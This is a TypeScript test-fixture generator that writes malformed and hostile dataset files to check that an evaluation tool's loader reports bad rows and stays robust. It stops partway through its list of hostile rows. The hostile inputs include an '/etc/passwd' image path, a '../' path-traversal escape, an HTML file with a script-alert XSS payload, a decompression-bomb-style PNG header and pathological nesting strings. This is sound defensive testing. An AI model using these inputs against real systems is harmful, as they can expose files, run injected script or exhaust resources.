/**
 * The hostile corpus of issue #8: files nobody checked (scraped model outputs, half-written exports, rows
 * edited by hand), generated here rather than pasted, so every kind is reproducible and reviewable.
 *
 * `buildCorpus(dir)` writes one folder per kind under `dir` (`dir/<kind>/<kind>.<ext>`, with the images its
 * good rows need copied to `dir/<kind>/images/`) and returns one `HostileCase` per kind. Every bad row sits
 * among good rows: real MM-HELIX rows from test/fixtures/mmhelix-dev (an instance with one of its candidate
 * responses as `prediction`), so "every good sample of the same file still opens and verifies" is testable;
 * `GOOD_REFERENCE` holds the fixture's reference verdict of each good id.
 *
 * What "reported" means for a `bad` entry (the tests accept any of these, each naming file and line/row):
 * the index entry's error or the RowError of loading it; a problem of the loaded sample (image paths);
 * a file error of the index naming the line (JSON arrays stop at a structural error); or, for rows that
 * load and verify, the verdict's reason (unknown tasks).
 *
 * Slow kinds (`slow: true`) are only written with `{ full: true }` (HELIX_HOSTILE_FULL=1).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parquetMetadata } from 'hyparquet';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { makePng } from '../helpers/png';

export interface HostileBad {
  /** 1-based line (JSONL/TSV/CSV). */
  line?: number;
  /** 0-based ordinal (JSON array element / Parquet row). */
  ordinal?: number;
  id?: string;
  message: RegExp;
}

export interface HostileCase {
  /** Stable slug, e.g. 'jsonl-malformed-middle'. */
  kind: string;
  /** One line for reports. */
  title: string;
  /** Absolute path of the dataset file it generated. */
  file: string;
  format: 'jsonl' | 'json' | 'parquet' | 'tsv' | 'csv';
  /** Only generated when full (HELIX_HOSTILE_FULL=1). */
  slow: boolean;
  /** Problems that must be reported, each locatable by line/ordinal/id. */
  bad: HostileBad[];
  /** Ids of samples in the same file that must still open and verify. */
  good: string[];
  /** Set when the whole file is expected to be refused/empty (e.g. empty file). */
  fileError?: RegExp;
  /** Samples that open fine but carry hostile content (XSS text, 5 MB response, code-like answers, huge boards, ...). */
  hostileIds?: string[];
}

/** The file code-like answers try to create (`touch <case dir>/HOSTILE_MARKER`): it must never appear. */
export const MARKER_NAME = 'HOSTILE_MARKER';

/** test/fixtures/mmhelix-dev, from this file's folder (vitest) or a bundle's (out/, scripts) or the repo root. */
const FIXTURE_DIR =
  [path.resolve(__dirname, '../fixtures/mmhelix-dev'), path.resolve(__dirname, '../test/fixtures/mmhelix-dev'), path.resolve(process.cwd(), 'test/fixtures/mmhelix-dev')].find((d) =>
    fs.existsSync(path.join(d, 'instances.jsonl')),
  ) ?? path.resolve(__dirname, '../fixtures/mmhelix-dev');

interface Instance {
  id: string;
  category: string;
  difficulty: number;
  question: string;
  question_text: string;
  answer: string;
  initial_state: unknown;
  metric_info: { score_function: string };
  images: string[];
}
interface ResponseRow {
  instance_id: string;
  kind: string;
  response: string;
  verdict: boolean;
  ref_error?: string;
}
type Row = Record<string, unknown>;

function readJsonl<T>(file: string): T[] {
  return fs
    .readFileSync(file, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as T);
}

let fixtureCache: { instances: Instance[]; byId: Map<string, Instance>; pass: Map<string, ResponseRow>; fail: Map<string, ResponseRow>; raw: Map<string, ResponseRow> } | null = null;

function fixtures(): NonNullable<typeof fixtureCache> {
  if (fixtureCache) return fixtureCache;
  const instances = readJsonl<Instance>(path.join(FIXTURE_DIR, 'instances.jsonl'));
  const responses = readJsonl<ResponseRow>(path.join(FIXTURE_DIR, 'responses.jsonl'));
  const pass = new Map<string, ResponseRow>();
  const fail = new Map<string, ResponseRow>();
  const raw = new Map<string, ResponseRow>();
  for (const r of responses) {
    if (r.ref_error !== undefined) continue;
    if (r.verdict && (!pass.has(r.instance_id) || r.kind === 'gt_boxed')) pass.set(r.instance_id, r);
    if (!r.verdict && r.kind.startsWith('wrong_') && !fail.has(r.instance_id)) fail.set(r.instance_id, r);
    if (r.verdict && r.kind === 'gt_raw') raw.set(r.instance_id, r);
  }
  fixtureCache = { instances, byId: new Map(instances.map((i) => [i.id, i])), pass, fail, raw };
  return fixtureCache;
}

/** Reference verdict (from the fixture) of every good id the corpus uses. */
export const GOOD_REFERENCE = new Map<string, boolean>();

function instanceRow(inst: Instance, overrides: Row = {}): Row {
  return {
    id: inst.id,
    category: inst.category,
    difficulty: inst.difficulty,
    question: inst.question,
    question_text: inst.question_text,
    answer: inst.answer,
    initial_state: inst.initial_state,
    metric_info: inst.metric_info,
    images: inst.images,
    ...overrides,
  };
}

/** A real evaluation row: the instance with a fixture response as `prediction` (its passing one, or a failing one). */
function goodRow(inst: Instance, which: 'pass' | 'fail' = 'pass'): Row {
  const f = fixtures();
  const r = (which === 'fail' ? f.fail.get(inst.id) : undefined) ?? f.pass.get(inst.id);
  if (!r) throw new Error(`fixture has no usable response for ${inst.id}`);
  const id = r.verdict ? inst.id : `${inst.id}~wrong`;
  GOOD_REFERENCE.set(id, r.verdict);
  return instanceRow(inst, { id, prediction: r.response });
}

/** A rotating window of instances, so the corpus as a whole covers all 42 tasks. */
let cursor = 0;
function nextInstances(n: number, filter: (i: Instance) => boolean = () => true): Instance[] {
  const all = fixtures().instances;
  const out: Instance[] = [];
  for (let k = 0; k < all.length * 2 && out.length < n; k++) {
    const inst = all[cursor % all.length]!;
    cursor++;
    if (filter(inst) && fixtures().pass.has(inst.id) && !out.includes(inst)) out.push(inst);
  }
  return out;
}

/** `n` good rows (the last one a failing response when the fixture has one, so both verdicts appear). */
function goodRows(n: number, filter?: (i: Instance) => boolean): Row[] {
  return nextInstances(n, filter).map((inst, k) => goodRow(inst, k === n - 1 && fixtures().fail.has(inst.id) ? 'fail' : 'pass'));
}

function copyImages(caseDir: string, rows: readonly Row[]): void {
  for (const r of rows) {
    const imgs = r['images'];
    if (!Array.isArray(imgs)) continue;
    for (const p of imgs) {
      if (typeof p !== 'string' || !p.startsWith('images/')) continue;
      const src = path.join(FIXTURE_DIR, p);
      const dst = path.join(caseDir, p);
      if (!fs.existsSync(src) || fs.existsSync(dst)) continue;
      fs.mkdirSync(path.dirname(dst), { recursive: true });
      fs.copyFileSync(src, dst);
    }
  }
}

const ids = (rows: readonly Row[]): string[] => rows.map((r) => String(r['id']));

/** Case folder + file path. */
function casePath(dir: string, kind: string, ext: string): { caseDir: string; file: string } {
  const caseDir = path.join(dir, kind);
  fs.mkdirSync(caseDir, { recursive: true });
  return { caseDir, file: path.join(caseDir, `${kind}.${ext}`) };
}

/** JSON text spliced into a row verbatim (values JSON.stringify itself cannot write, e.g. 10,000 levels deep). */
const RAW_JSON: string[] = [];
function rawJson(text: string): string {
  RAW_JSON.push(text);
  return `\u0000RAW:${RAW_JSON.length - 1}\u0000`;
}
function serialize(row: Row): string {
  return JSON.stringify(row).replace(/"\\u0000RAW:(\d+)\\u0000"/g, (_, k: string) => RAW_JSON[Number(k)]!);
}

/** JSONL from a list of lines (strings are written raw; objects as JSON). Returns 1-based line numbers. */
function writeJsonl(file: string, lines: Array<Row | string | Buffer>, eol = '\n', finalEol = true): void {
  const parts: Buffer[] = lines.map((l, i) => {
    const body = Buffer.isBuffer(l) ? l : Buffer.from(typeof l === 'string' ? l : serialize(l), 'utf8');
    return i < lines.length - 1 || finalEol ? Buffer.concat([body, Buffer.from(eol)]) : body;
  });
  fs.writeFileSync(file, Buffer.concat(parts));
}

/** The builder of one kind: writes its files under `dir`, returns the case. */
type Builder = (dir: string) => HostileCase;

// ---------------------------------------------------------------- JSONL structure

const MALFORMED = '{"id": "broken-1", "category": "maze", "question": "unterminated, "answer": }';

function malformedAt(where: 'start' | 'middle' | 'end'): Builder {
  return (dir) => {
    const kind = `jsonl-malformed-${where}`;
    const { caseDir, file } = casePath(dir, kind, 'jsonl');
    const good = goodRows(4);
    copyImages(caseDir, good);
    const at = where === 'start' ? 0 : where === 'middle' ? 2 : 4;
    const lines: Array<Row | string> = [...good];
    lines.splice(at, 0, MALFORMED);
    writeJsonl(file, lines);
    return { kind, title: `JSONL with a malformed JSON line at the ${where}`, file, format: 'jsonl', slow: false, bad: [{ line: at + 1, message: /JSON|Unexpected|expected/i }], good: ids(good) };
  };
}

const truncatedLast: Builder = (dir) => {
  const kind = 'jsonl-truncated-last-line';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  copyImages(caseDir, good);
  const last = JSON.stringify(goodRow(fixtures().instances[5]!));
  GOOD_REFERENCE.delete(fixtures().instances[5]!.id);
  writeJsonl(file, [...good, last.slice(0, Math.floor(last.length / 2))], '\n', false);
  return { kind, title: 'JSONL whose last line is cut in the middle (no newline at the end)', file, format: 'jsonl', slow: false, bad: [{ line: 4, message: /JSON|Unterminated|end|truncat/i }], good: ids(good) };
};

/** One row per Sample field of the wrong type (the fields the normaliser checks). */
const WRONG_TYPES: Array<{ field: string; value: unknown }> = [
  { field: 'id', value: { nested: 'object' } },
  { field: 'category', value: 42 },
  { field: 'difficulty', value: [1, 2] },
  { field: 'question', value: { text: 'q' } },
  { field: 'question_text', value: 17 },
  { field: 'metric_info', value: 3.5 },
  { field: 'images', value: 12 },
  { field: 'messages', value: [{ role: 5, content: 'x' }] },
  { field: 'conversations', value: 'not a list' },
  { field: 'prediction', value: { text: 'an object' } },
  { field: 'response', value: [1, 2, 3] },
];

const wrongTypes: Builder = (dir) => {
  const kind = 'jsonl-wrong-types';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  const base = fixtures().instances[10]!;
  const lines: Row[] = [good[0]!];
  const bad: HostileBad[] = [];
  const hostile: Row[] = [];
  for (const { field, value } of WRONG_TYPES) {
    const row = goodRow(base);
    GOOD_REFERENCE.delete(String(row['id']));
    row['id'] = `wrong-type-${field}`;
    if (field === 'conversations' || field === 'messages') delete row['prediction'];
    if (field === 'response') delete row['prediction'];
    row[field] = value;
    lines.push(row);
    bad.push({ line: lines.length, message: new RegExp(`\`${field}[^\`]*\` has the wrong type`) });
  }
  // Fields the schema leaves free (any JSON): they must still load and verify without crashing.
  for (const [field, value] of [['answer', { not: 'a string' }], ['initial_state', 12345], ['answer', null], ['initial_state', [[null, true], 'x']]] as const) {
    const row = goodRow(base);
    GOOD_REFERENCE.delete(String(row['id']));
    row['id'] = `odd-type-${field}-${hostile.length}`;
    row[field] = value;
    hostile.push(row);
    lines.push(row);
  }
  lines.push(good[1]!, good[2]!);
  copyImages(caseDir, lines);
  writeJsonl(file, lines);
  return { kind, title: 'JSONL with one row per Sample field of the wrong type', file, format: 'jsonl', slow: false, bad, good: ids(good), hostileIds: ids(hostile) };
};

const notObjects: Builder = (dir) => {
  const kind = 'jsonl-not-objects';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  copyImages(caseDir, good);
  const junk = ['[1, 2, 3]', '"just a string"', '42', 'null', 'true'];
  const lines: Array<Row | string> = [good[0]!, ...junk, good[1]!, good[2]!];
  writeJsonl(file, lines);
  return { kind, title: 'JSONL lines that are valid JSON but not objects', file, format: 'jsonl', slow: false, bad: junk.map((_, i) => ({ line: i + 2, message: /object/i })), good: ids(good) };
};

const invalidUtf8: Builder = (dir) => {
  const kind = 'jsonl-invalid-utf8';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  copyImages(caseDir, good);
  const bad1 = Buffer.concat([Buffer.from('{"id": "bad-utf8-1", "category": "maze", "prediction": "caf'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from('"}')]);
  const bad2 = Buffer.concat([Buffer.from('{"id": "bad-utf8-2", "prediction": "overlong '), Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]), Buffer.from('"}')]);
  writeJsonl(file, [good[0]!, bad1, good[1]!, bad2, good[2]!]);
  return { kind, title: 'JSONL rows with invalid UTF-8 (bad continuation, 0xFF, overlong, encoded surrogate)', file, format: 'jsonl', slow: false, bad: [{ line: 2, message: /UTF-8/ }, { line: 4, message: /UTF-8/ }], good: ids(good) };
};

const bom: Builder = (dir) => {
  const kind = 'jsonl-bom';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  copyImages(caseDir, good);
  writeJsonl(file, good);
  fs.writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), fs.readFileSync(file)]));
  return { kind, title: 'JSONL starting with a UTF-8 byte order mark (the first row must still load)', file, format: 'jsonl', slow: false, bad: [], good: ids(good) };
};

const crlf: Builder = (dir) => {
  const kind = 'jsonl-crlf';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(4);
  copyImages(caseDir, good);
  writeJsonl(file, [good[0]!, good[1]!, '', MALFORMED, good[2]!, good[3]!], '\r\n');
  return { kind, title: 'JSONL with CRLF line ends (and a blank line): line numbers stay right', file, format: 'jsonl', slow: false, bad: [{ line: 4, message: /JSON|Unexpected|expected/i }], good: ids(good) };
};

const line50mb: Builder = (dir) => {
  const kind = 'jsonl-line-50mb';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  copyImages(caseDir, good);
  const fd = fs.openSync(file, 'w');
  try {
    fs.writeSync(fd, `${JSON.stringify(good[0])}\n`);
    fs.writeSync(fd, '{"id": "huge-line", "category": "maze", "prediction": "');
    const block = 'x'.repeat(1024 * 1024);
    for (let i = 0; i < 50; i++) fs.writeSync(fd, block);
    fs.writeSync(fd, '"}\n');
    fs.writeSync(fd, `${JSON.stringify(good[1])}\n${JSON.stringify(good[2])}\n`);
  } finally {
    fs.closeSync(fd);
  }
  return { kind, title: 'JSONL with one 50 MB line among good rows', file, format: 'jsonl', slow: false, bad: [{ line: 2, message: /limit|too large|MB/i }], good: ids(good) };
};

const millionLines: Builder = (dir) => {
  const kind = 'jsonl-million-lines';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  copyImages(caseDir, good);
  const N = 1_000_000;
  const fd = fs.openSync(file, 'w');
  try {
    fs.writeSync(fd, `${JSON.stringify(good[0])}\n`);
    const half = 'x\n'.repeat(N / 2);
    fs.writeSync(fd, half);
    fs.writeSync(fd, `${JSON.stringify(good[1])}\n`);
    fs.writeSync(fd, half);
    fs.writeSync(fd, `${JSON.stringify(good[2])}\n`);
  } finally {
    fs.closeSync(fd);
  }
  const msg = /JSON|Unexpected|expected/i;
  return {
    kind, title: '1,000,000 one-character lines around three good rows', file, format: 'jsonl', slow: false,
    bad: [{ line: 2, message: msg }, { line: N / 2 + 1, message: msg }, { line: N / 2 + 3, message: msg }, { line: N + 2, message: msg }],
    good: ids(good),
  };
};

const emptyFile: Builder = (dir) => {
  const kind = 'jsonl-empty';
  const { file } = casePath(dir, kind, 'jsonl');
  fs.writeFileSync(file, '');
  return { kind, title: 'an empty JSONL file', file, format: 'jsonl', slow: false, bad: [], good: [], fileError: /empty/ };
};

const blankOnly: Builder = (dir) => {
  const kind = 'jsonl-blank-lines';
  const { file } = casePath(dir, kind, 'jsonl');
  fs.writeFileSync(file, '\n\n   \r\n\t\n\n');
  return { kind, title: 'a JSONL file of blank lines only', file, format: 'jsonl', slow: false, bad: [], good: [], fileError: /no samples|blank/ };
};

// ---------------------------------------------------------------- JSON arrays

/** A JSON array of about `mb` MB: good rows repeated (ids suffixed), one wrong-typed element in the middle. */
function jsonArray(mb: number, slow: boolean): Builder {
  return (dir) => {
    const kind = `json-array-${mb}mb`;
    const { caseDir, file } = casePath(dir, kind, 'json');
    const good = goodRows(4);
    copyImages(caseDir, good);
    const target = mb * 1024 * 1024;
    const fd = fs.openSync(file, 'w');
    let written = 0;
    let ordinal = 0;
    let badOrdinal = -1;
    const write = (s: string): void => {
      fs.writeSync(fd, s);
      written += Buffer.byteLength(s);
    };
    try {
      write('[\n');
      const pending: string[] = [];
      const flush = (): void => {
        if (pending.length) write(pending.join(''));
        pending.length = 0;
      };
      const element = (row: Row): void => {
        pending.push(`${ordinal === 0 ? '' : ',\n'}${JSON.stringify(row)}`);
        ordinal++;
        if (pending.length >= 256) flush();
      };
      for (const g of good) element(g);
      let copy = 0;
      for (;;) {
        for (const g of good) {
          element({ ...g, id: `${String(g['id'])}-copy-${copy}` });
          copy++;
        }
        flush();
        if (badOrdinal < 0 && written > target / 2) {
          badOrdinal = ordinal;
          element({ ...good[0]!, id: 'json-array-wrong-type', question: ['not', 'a', 'string'] });
        }
        if (written > target) break;
      }
      flush();
      write('\n]\n');
    } finally {
      fs.closeSync(fd);
    }
    return {
      kind, title: `a JSON array of ${mb} MB (${ordinal} elements, one of the wrong type)`, file, format: 'json', slow,
      // One element per line after the `[` line: element k is on line k + 2.
      bad: [{ ordinal: badOrdinal, line: badOrdinal + 2, message: /`question` has the wrong type/ }], good: ids(good),
    };
  };
}

const jsonMalformedMiddle: Builder = (dir) => {
  const kind = 'json-malformed-middle';
  const { caseDir, file } = casePath(dir, kind, 'json');
  const good = goodRows(2);
  const after = goodRows(1);
  copyImages(caseDir, [...good, ...after]);
  GOOD_REFERENCE.delete(String(after[0]!['id']));
  // Line 1 `[`, lines 2-3 the good elements, line 4 the broken one (a missing comma after it).
  const text = `[\n${JSON.stringify(good[0])},\n${JSON.stringify(good[1])},\n{"id": "broken", "category": "maze"} {"id": "x"},\n${JSON.stringify(after[0])}\n]\n`;
  fs.writeFileSync(file, text);
  return { kind, title: 'a JSON array with a structural error in the middle (elements before it stay readable)', file, format: 'json', slow: false, bad: [{ line: 4, message: /expected "," or "]"|line 4/ }], good: ids(good) };
};

const jsonTruncated: Builder = (dir) => {
  const kind = 'json-truncated';
  const { caseDir, file } = casePath(dir, kind, 'json');
  const good = goodRows(3);
  copyImages(caseDir, good);
  const last = JSON.stringify(goodRow(fixtures().instances[20]!));
  GOOD_REFERENCE.delete(fixtures().instances[20]!.id);
  fs.writeFileSync(file, `[\n${good.map((g) => JSON.stringify(g)).join(',\n')},\n${last.slice(0, 300)}`);
  return { kind, title: 'a JSON array cut off in its last element (half-written export)', file, format: 'json', slow: false, bad: [{ line: 5, message: /not complete|truncated|not closed/ }], good: ids(good) };
};

const jsonBom: Builder = (dir) => {
  const kind = 'json-bom-crlf';
  const { caseDir, file } = casePath(dir, kind, 'json');
  const good = goodRows(3);
  copyImages(caseDir, good);
  fs.writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`[\r\n${good.map((g) => JSON.stringify(g)).join(',\r\n')}\r\n]\r\n`)]));
  return { kind, title: 'a JSON array with a BOM and CRLF line ends', file, format: 'json', slow: false, bad: [], good: ids(good) };
};

// ---------------------------------------------------------------- Parquet

type SchemaElement = NonNullable<Parameters<typeof parquetWriteBuffer>[0]['schema']>[number];
const strCol = (name: string): SchemaElement => ({ name, type: 'BYTE_ARRAY', converted_type: 'UTF8', repetition_type: 'OPTIONAL' });
const PARQUET_COLUMNS = ['id', 'category', 'difficulty', 'question', 'question_text', 'answer', 'initial_state', 'metric_info', 'images', 'prediction'] as const;

/** Rows as a flat all-string Parquet file (JSON text for the structured fields, as many exports do). */
function parquetBytes(rows: readonly Row[], columns: readonly string[], rowGroupSize: number): Uint8Array {
  const text = (v: unknown): string | null => (v === undefined || v === null ? null : typeof v === 'string' ? v : JSON.stringify(v));
  const buf = parquetWriteBuffer({
    columnData: columns.map((c) => ({ name: c, data: rows.map((r) => text(r[c])) })),
    schema: [{ name: 'schema', num_children: columns.length }, ...columns.map(strCol)],
    rowGroupSize,
    codec: 'UNCOMPRESSED',
  });
  return new Uint8Array(buf);
}

const parquetMissingColumn: Builder = (dir) => {
  const kind = 'parquet-missing-column';
  const { caseDir, file } = casePath(dir, kind, 'parquet');
  const good = goodRows(4);
  copyImages(caseDir, good);
  // No `answer` column: every sample opens without a ground truth; verifying must not crash or hang.
  fs.writeFileSync(file, parquetBytes(good, PARQUET_COLUMNS.filter((c) => c !== 'answer'), 2));
  for (const g of good) GOOD_REFERENCE.delete(String(g['id']));
  return { kind, title: 'Parquet without the `answer` column (samples open with no ground truth)', file, format: 'parquet', slow: false, bad: [], good: [], hostileIds: ids(good) };
};

/** Column chunks' byte ranges of row group `g`, from the file's footer. */
function columnChunkRanges(bytes: Uint8Array, g: number): Array<{ name: string; start: number; end: number }> {
  const meta = parquetMetadata(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return meta.row_groups[g]!.columns.map((c) => {
    const m = c.meta_data!;
    const start = Number(m.dictionary_page_offset || m.data_page_offset);
    return { name: m.path_in_schema.join('.'), start, end: start + Number(m.total_compressed_size) };
  });
}

const parquetCorruptPage: Builder = (dir) => {
  const kind = 'parquet-corrupt-page';
  const { caseDir, file } = casePath(dir, kind, 'parquet');
  const good = goodRows(3);
  const doomed = goodRows(3);
  copyImages(caseDir, [...good, ...doomed]);
  for (const d of doomed) GOOD_REFERENCE.delete(String(d['id']));
  const rows = [...good, ...doomed];
  // Row group 0 holds the good rows, row group 1 the rows whose `prediction` page header gets overwritten.
  const bytes = parquetBytes(rows, PARQUET_COLUMNS, 3);
  const pred = columnChunkRanges(bytes, 1).find((r) => r.name === 'prediction')!;
  const out = Buffer.from(bytes);
  // The page header (thrift) and the start of the data: garbage of a fixed pattern.
  for (let i = pred.start; i < Math.min(pred.end, pred.start + 64); i++) out[i] = (i * 37 + 0xa5) & 0xff;
  fs.writeFileSync(file, out);
  return {
    kind, title: 'Parquet whose second row group has a corrupt page (prediction column)', file, format: 'parquet', slow: false,
    bad: doomed.map((_, i) => ({ ordinal: good.length + i, message: /cannot decode|corrupt|invalid|parquet/i })), good: ids(good),
  };
};

// ---------------------------------------------------------------- TSV / CSV

function needsQuote(s: string, sep: string): boolean {
  return s.includes(sep) || s.includes('"') || s.includes('\n') || s.includes('\r');
}
function field(v: unknown, sep: string): string {
  const s = v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v);
  return needsQuote(s, sep) ? `"${s.replace(/"/g, '""')}"` : s;
}
const TSV_COLUMNS = ['index', 'id', 'category', 'difficulty', 'answer', 'prediction', 'metric_info'] as const;
/** A VLMEvalKit-style record of a good row: one-line fields (the raw ground-truth response), metric_info as a Python dict. */
function tsvRecord(inst: Instance, index: number): Row {
  const r = fixtures().raw.get(inst.id) ?? fixtures().pass.get(inst.id)!;
  GOOD_REFERENCE.set(inst.id, r.verdict);
  return { index, id: inst.id, category: inst.category, difficulty: inst.difficulty, answer: inst.answer, prediction: r.response, metric_info: `{'score_function': '${inst.metric_info.score_function}'}` };
}
/** Instances whose TSV record needs no quoting at all (so a stray quote elsewhere cannot pair with theirs). */
const quoteFree = (inst: Instance): boolean => {
  if (inst.metric_info.score_function !== 'simple_str_match') return false;
  const r = fixtures().raw.get(inst.id);
  return r !== undefined && !needsQuote(r.response, '\t') && !needsQuote(inst.answer, '\t') && !needsQuote(inst.answer, ',');
};

function delimited(rows: readonly Row[], sep: string, eol = '\n'): string {
  return [TSV_COLUMNS.join(sep), ...rows.map((r) => TSV_COLUMNS.map((c) => field(r[c], sep)).join(sep))].join(eol) + eol;
}

const tsvUnbalancedMiddle: Builder = (dir) => {
  const kind = 'tsv-unbalanced-quote-middle';
  const { file } = casePath(dir, kind, 'tsv');
  const insts = nextInstances(4, quoteFree);
  const rows = insts.map((inst, i) => tsvRecord(inst, i));
  const lines = delimited(rows, '\t').split('\n');
  // Line 1 header, 2-3 good, 4 the bad record (a field opened with a quote that never closes), 5-6 good.
  const badLine = ['99', 'unbalanced-1', 'maze', '1', 'x', '"this quote is never closed', "{'score_function': 'maze_evaluator'}"].join('\t');
  lines.splice(3, 0, badLine);
  fs.writeFileSync(file, lines.join('\n'));
  return { kind, title: 'TSV with a quote opened in the middle of the file and never closed', file, format: 'tsv', slow: false, bad: [{ line: 4, message: /quote|never closed|fields/i }], good: ids(rows) };
};

const tsvUnbalancedEnd: Builder = (dir) => {
  const kind = 'tsv-unbalanced-quote-end';
  const { file } = casePath(dir, kind, 'tsv');
  const insts = nextInstances(3, quoteFree);
  const rows = insts.map((inst, i) => tsvRecord(inst, i));
  const text = `${delimited(rows, '\t')}7\tunbalanced-2\tmaze\t1\tx\t"the export stopped here\nhalf a response\n`;
  fs.writeFileSync(file, text);
  return { kind, title: 'TSV whose last record opens a quoted field and the file ends inside it', file, format: 'tsv', slow: false, bad: [{ line: 5, message: /quote|never closed/i }], good: ids(rows) };
};

const csvBomCrlf: Builder = (dir) => {
  const kind = 'csv-bom-crlf-quotes';
  const { file } = casePath(dir, kind, 'csv');
  const insts = nextInstances(3, quoteFree);
  const rows = insts.map((inst, i) => tsvRecord(inst, i));
  // A good row whose prediction holds commas, quotes and a line break (quoted properly), and a record with too few fields.
  const lines = delimited(rows, ',', '\r\n');
  const text = `\ufeff${lines}5,short-record,maze\r\n`;
  fs.writeFileSync(file, text);
  return { kind, title: 'CSV with a BOM, CRLF line ends and a record with too few fields', file, format: 'csv', slow: false, bad: [{ line: 5, message: /fields|expected 7/ }], good: ids(rows) };
};

// ---------------------------------------------------------------- images

function imageCase(kind: string, title: string, makePath: (caseDir: string) => string, expectBad: RegExp | null): Builder {
  return (dir) => {
    const { caseDir, file } = casePath(dir, kind, 'jsonl');
    const good = goodRows(3);
    copyImages(caseDir, good);
    const inst = fixtures().instances[30]!;
    const row = goodRow(inst);
    GOOD_REFERENCE.delete(String(row['id']));
    const id = `${kind}-row`;
    row['id'] = id;
    row['images'] = [makePath(caseDir)];
    writeJsonl(file, [good[0]!, good[1]!, row, good[2]!]);
    return {
      kind, title, file, format: 'jsonl', slow: false,
      bad: expectBad ? [{ line: 3, id, message: expectBad }] : [],
      good: ids(good),
      ...(expectBad ? {} : { hostileIds: [id] }),
    };
  };
}

const imageAbsolute = imageCase('image-absolute', 'an image path that is absolute (/etc/passwd)', () => '/etc/passwd', /absolute image path refused/);
const imageEscape = imageCase('image-escape', 'an image path that climbs out of the dataset folder with ../', (caseDir) => {
  fs.writeFileSync(path.join(caseDir, '..', 'outside-secret.png'), makePng(2, 2, [255, 0, 0]));
  return '../outside-secret.png';
}, /climbs out/);
const imageFolder = imageCase('image-folder', 'an image path that points at a folder', (caseDir) => {
  fs.mkdirSync(path.join(caseDir, 'images', 'a-folder.png'), { recursive: true });
  return 'images/a-folder.png';
}, /not a file/);
const imageNotImage = imageCase('image-not-image', 'an image path that points at a text file named .png', (caseDir) => {
  fs.mkdirSync(path.join(caseDir, 'images'), { recursive: true });
  fs.writeFileSync(path.join(caseDir, 'images', 'not-an-image.png'), '<html><script>alert(1)</script></html>\n');
  return 'images/not-an-image.png';
}, /image is not a PNG, JPEG, GIF, WebP or BMP file: images\/not-an-image\.png/);
const imageHuge = imageCase('image-huge-png', 'an image that claims 20,000 x 20,000 pixels (valid PNG header, tiny file)', (caseDir) => {
  fs.mkdirSync(path.join(caseDir, 'images'), { recursive: true });
  const png = Buffer.from(makePng(1, 1, [0, 0, 0]));
  // IHDR width/height at bytes 16..23; the CRC is left as is (a decoder may refuse it; nothing may crash).
  png.writeUInt32BE(20000, 16);
  png.writeUInt32BE(20000, 20);
  fs.writeFileSync(path.join(caseDir, 'images', 'huge.png'), png);
  return 'images/huge.png';
}, /image is 20000 x 20000 pixels \(400 megapixels\), over the 64-megapixel limit: images\/huge\.png/);

// ---------------------------------------------------------------- hostile content (rows that open)

/** A file of good rows plus hostile rows built from real instances with the given overrides. */
function hostileRows(kind: string, title: string, make: (caseDir: string) => Row[]): Builder {
  return (dir) => {
    const { caseDir, file } = casePath(dir, kind, 'jsonl');
    const good = goodRows(3);
    const hostile = make(caseDir);
    copyImages(caseDir, [...good, ...hostile]);
    const lines: Row[] = [good[0]!];
    hostile.forEach((h, i) => {
      lines.push(h);
      if (i === Math.floor(hostile.length / 2)) lines.push(good[1]!);
    });
    lines.push(good[2]!);
    writeJsonl(file, lines);
    return { kind, title, file, format: 'jsonl', slow: false, bad: [], good: ids(good), hostileIds: ids(hostile) };
  };
}

function hostileRow(instIndex: number, id: string, overrides: Row): Row {
  const inst = fixtures().instances[instIndex % fixtures().instances.length]!;
  return instanceRow(inst, { id, prediction: 'x', ...overrides });
}

const response5mb = hostileRows('response-5mb', 'a 5 MB response (long thinking, boxed answer at the end)', () => {
  const para = 'Let me check this again. Wait, maybe I should reconsider the constraint in row 3.\n\n';
  const body = para.repeat(Math.ceil((5 * 1024 * 1024) / para.length));
  return [hostileRow(0, 'response-5mb', { prediction: `<think>${body}</think>\n\\boxed{4}` }), hostileRow(1, 'response-5mb-no-breaks', { prediction: 'a'.repeat(5 * 1024 * 1024) })];
});

const boxedUnclosed = hostileRows('boxed-unclosed', '\\boxed{ never closed (once, and 200,000 times)', () => [
  hostileRow(2, 'boxed-unclosed-once', { prediction: 'The answer is \\boxed{42 and then the text just ends' }),
  hostileRow(3, 'boxed-unclosed-many', { prediction: '\\boxed{'.repeat(200_000) }),
  hostileRow(4, 'boxed-unclosed-nested', { prediction: `\\boxed{${'\\boxed{\\text{'.repeat(50_000)}` }),
  hostileRow(5, 'answer-tag-unclosed-many', { prediction: '<answer>'.repeat(100_000) + '<think>'.repeat(100_000) }),
]);

const nestedBraces = hostileRows('nested-braces', '10,000 nested braces / brackets in answers, initial_state and fields', () => {
  const N = 10_000;
  return [
    hostileRow(6, 'nested-braces-boxed', { prediction: `\\boxed{${'{'.repeat(N)}1${'}'.repeat(N)}}` }),
    hostileRow(7, 'nested-braces-unbalanced', { prediction: `\\boxed{${'{'.repeat(N)}1}` }),
    hostileRow(8, 'nested-brackets-answer', { prediction: `\\boxed{${'['.repeat(N)}1${']'.repeat(N)}}`, category: 'sudoku' }),
    hostileRow(9, 'nested-parens-answer', { prediction: `\\boxed{${'('.repeat(N)}1${')'.repeat(N)}}`, category: '24Points', metric_info: { score_function: '24points_evaluator' } }),
